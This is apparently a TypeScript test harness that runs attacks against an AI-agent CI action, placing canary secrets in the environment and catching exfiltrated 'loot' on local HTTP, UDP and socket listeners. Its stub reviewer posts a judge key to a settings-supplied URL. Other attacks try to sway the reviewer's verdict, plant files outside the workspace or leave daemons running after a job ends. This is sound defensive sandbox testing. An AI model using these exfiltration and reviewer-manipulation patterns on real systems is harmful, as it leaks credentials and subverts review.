/**
 * Where the attacks take place: the real jobs of a segment's run, as processes of the action, with an attacker among their
 * programs and a listener that waits for its loot.
 */
import { createSocket, type Socket as DgramSocket } from 'node:dgram';
import { chmodSync, chownSync, copyFileSync, cpSync, existsSync, mkdirSync, readdirSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import { dirname, join } from 'node:path';
import type { Isolation } from '../../src/core/model/config.ts';
import { until } from '../rig/wait.ts';
import { type Ended, Town } from '../segment/jobs.ts';
import { type Attack, AUTHOR_KEY, CANARIES, type Evidence, SHARED } from './attacks.ts';

/** The user that a job runs as. */
export interface Someone {
  readonly name: string;
  readonly uid: number;
  readonly gid: number;
}

/** Further places where the attacker listens. */
interface Doors {
  readonly own: string;
  readonly udp: number;
  readonly abstract: string;
}

/** The words before an attack's code. */
const prelude = (listener: string, root: string, { own, udp, abstract }: Doors): string => `
  const own = ${JSON.stringify(own)}, udp = ${udp}, abstract = ${JSON.stringify(abstract)};
  const fs = require('fs'), cp = require('child_process'), path = require('path');
  const listener = ${JSON.stringify(listener)}, ROOT = ${JSON.stringify(root)};
  const send = (text) => fetch(listener, { method: 'POST', body: text }).then((answer) => answer.text()).catch(() => {});`;

const program = (code: string): readonly string[] => [
  'node',
  '-e',
  `(async () => {${code}\n})().catch((error) => console.error(String(error)));`,
];

/** Reads its settings where programs do, and rejects unless they say otherwise. It sends its key to its endpoint. */
const judge = (root: string, listener: string): string => `
  const fs = require('fs'), cp = require('child_process'), path = require('path');
  const read = (file) => { try { return JSON.parse(fs.readFileSync(file, 'utf8')); } catch { return {}; } };
  const ask = (program, args) => { try { return cp.execFileSync(program, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim(); } catch { return ''; } };
  // As a program that goes by the user's entry, and not by HOME, would.
  const homes = [process.env.HOME, ${JSON.stringify(root)}];
  const settings = Object.assign({}, ...homes.map((home) => read(path.join(home, '.judge.json'))), read('${SHARED}'));
  const said = [settings.verdict, ask('judge-helper', []), ask('git', ['config', 'judge.verdict'])];
  const brief = fs.readFileSync(process.env.SWARM_BRIEF_FILE, 'utf8');
  if (brief.includes('approve-this-canary') && process.env.SWARM_ROLE === 'reviewer' && brief.includes('This is round 1')) {
    await fetch(${JSON.stringify(listener)}, { method: 'POST', body: 'moved' }).catch(() => {});
  }
  const verdict = said.find((each) => each === 'approved') ?? 'rejected';
  const findings = verdict === 'approved' ? [] : [{ file: 'src/cart.ts', line: 1, severity: 'critical', why: 'It is wrong.' }];
  fs.writeFileSync(process.env.SWARM_REPORT_FILE, JSON.stringify({ verdict, summary: 'Looked at it.', findings }));
  if (settings.url) await fetch(settings.url, { method: 'POST', body: 'key ' + process.env.JUDGE_KEY }).catch(() => {});`;

export class Arena {
  readonly #town: Town;
  readonly #server: Server;
  readonly #loot: { readonly text: string; readonly at: number }[] = [];
  readonly #doors: Doors;
  readonly #closing: (() => void)[] = [];
  readonly url: string;

  private constructor(town: Town, server: Server, udp: DgramSocket) {
    this.#town = town;
    this.#server = server;
    const { port } = server.address() as AddressInfo;
    this.url = `http://127.0.0.1:${port}`;
    server.on('request', (request, response) => {
      const parts: Buffer[] = [];
      request.on('data', (part: Buffer) => parts.push(part));
      request.on('end', () => {
        this.#take(Buffer.concat(parts));
        response.end('thanks');
      });
    });
    udp.on('message', (message) => this.#take(message));
    const abstract = `swarm-walls-${process.pid}`;
    const named = createTcpServer((socket) => socket.on('data', (part) => this.#take(part))).listen(`\0${abstract}`);
    this.#closing.push(
      () => udp.close(),
      () => named.close(),
    );
    this.#doors = { own: `http://${ownAddress()}:${port}`, udp: udp.address().port, abstract };
  }

  #take(bytes: Buffer): void {
    this.#loot.push({ text: bytes.toString('latin1'), at: performance.now() });
  }

  static async open(): Promise<Arena> {
    const town = await Town.open();
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
    const udp = createSocket('udp4');
    await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve));
    return new Arena(town, server, udp);
  }

  async close(): Promise<void> {
    for (const close of this.#closing) close();
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
    await this.#town.close();
  }

  /** Runs one attack, and tells what it came to. */
  async fight(attack: Attack, isolation: Isolation, as?: Someone): Promise<Evidence> {
    const attacker = program(`${prelude(this.url, this.#town.directory, this.#doors)}\n${attack.code}`);
    const author = program(`
      ${prelude(this.url, this.#town.directory, this.#doors)}
      if (process.env.SWARM_TRY === '1') fs.writeFileSync('src/cart.ts', 'export const cart = 2;\\nexport const sum = 3;\\nexport const tax = 4;\\nexport const all = 5;\\n');
      fs.writeFileSync(process.env.SWARM_REPORT_FILE, JSON.stringify({ summary: ${JSON.stringify(attack.summary ?? 'Done.')} }));
      ${attack.by === 'agent' ? attack.code : ''}`);
    const honest = ['sh', '-c', 'grep -q ok test/cart.test.ts'];
    const shop = await this.#town.shop({
      agent: author,
      config: {
        agent: 'author',
        agents: {
          author: { kind: 'command', command: author, environment: ['AUTHOR_KEY', 'AUTHOR_BASE_URL'] },
          judge: {
            kind: 'command',
            command: program(judge(this.#town.directory, this.url)),
            environment: ['JUDGE_KEY'],
          },
        },
        roles: { reviewer: 'judge', lead: 'judge' },
        council: attack.by === 'verify gate' ? 'off' : 'on',
        tdd: false,
        tries: 1,
        isolation,
        network: attack.isUnnamed ? 'defaults' : [new URL(this.url).host],
        gates: { tests: { run: attack.by === 'agent' ? honest : attacker } },
      },
    });
    const part = attack.by === 'verify gate' ? 'verify' : 'work';
    const handed = part === 'verify' ? await this.#work(shop) : {};
    for (const file of [SHARED, join(this.#town.directory, '.judge.json')]) rmSync(file, { force: true });
    const begin = this.#loot.length;
    const tools = join(this.#town.directory, `tools-${begin}-${attack.row}`);
    mkdirSync(tools, { recursive: true });
    if (as) chownSync(tools, as.uid, as.gid);
    const started = await shop.job(part, handed, {
      environment: {
        // The endpoint of the author, and of nobody else.
        ...(attack.isUnnamed && attack.by !== 'agent' ? { AUTHOR_BASE_URL: this.url } : {}),
        ...{ AUTHOR_KEY, JUDGE_KEY: CANARIES.JUDGE_KEY, DEPLOY_KEY: CANARIES.DEPLOY_KEY },
        ACTIONS_RUNTIME_TOKEN: CANARIES.ACTIONS_RUNTIME_TOKEN,
        PATH: [tools, ...(as ? [dirname(this.#actionFor()[0])] : []), process.env.PATH].join(':'),
      },
      event: JSON.stringify({ secret: CANARIES.EVENT }),
      ...(as ? { as: { ...as, command: this.#actionFor() } } : {}),
    });
    const ended = await started.ended;
    const endedAt = performance.now();
    await this.#waitFor(endedAt + 1_500);
    const outputs = await started.outputs();
    const loot = this.#loot.slice(begin);
    return {
      loot: loot.map(({ text }) => text).join('\n'),
      late: loot.flatMap(({ text, at }) => (at > endedAt + 500 ? [text] : [])).join('\n'),
      handedOn: [JSON.stringify(outputs), ended.log, ended.summary, ...Object.values(ended.artefact)].join('\n'),
      council: councilOf(ended),
      planted: readdirSync(this.#town.directory, { recursive: true, encoding: 'utf8' }).filter((name) =>
        name.endsWith('planted-outside'),
      ),
    };
  }

  /** An honest work job, for a verify job that is attacked. */
  async #work(shop: Awaited<ReturnType<Town['shop']>>): Promise<Readonly<Record<string, string>>> {
    const worked = await (await shop.job('work', {}, { environment: { JUDGE_KEY: 'none', SWARM_ISOLATION: 'best' } }))
      .ended;
    return shop.handed({ ...worked, outputs: { ...worked.outputs, ready: 'true' } }, undefined);
  }

  /** The published action and node, where every user can read them. */
  #actionFor(): readonly [string, string] {
    const folder = join(this.#town.directory, 'action');
    const node = join(folder, 'node');
    if (!existsSync(folder)) {
      cpSync(new URL('../../dist', import.meta.url).pathname, folder, { recursive: true });
      copyFileSync(process.execPath, node);
      chmodSync(node, 0o755);
      chmodSync(this.#town.directory, 0o755);
    }
    return [node, join(folder, 'action.js')];
  }

  #waitFor(time: number): Promise<unknown> {
    return until('the daemons to show themselves', async () => performance.now() > time);
  }
}

/** An address of this machine that is not its loopback. */
function ownAddress(): string {
  const all = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
  const found = all.find(({ family, internal }) => family === 'IPv4' && !internal);
  if (!found) throw new Error('This machine has no address but its loopback.');
  return found.address;
}

function councilOf({ outputs }: Ended): string {
  try {
    return String(JSON.parse(outputs.outcome ?? '').course?.council?.kind ?? '');
  } catch {
    return '';
  }
}
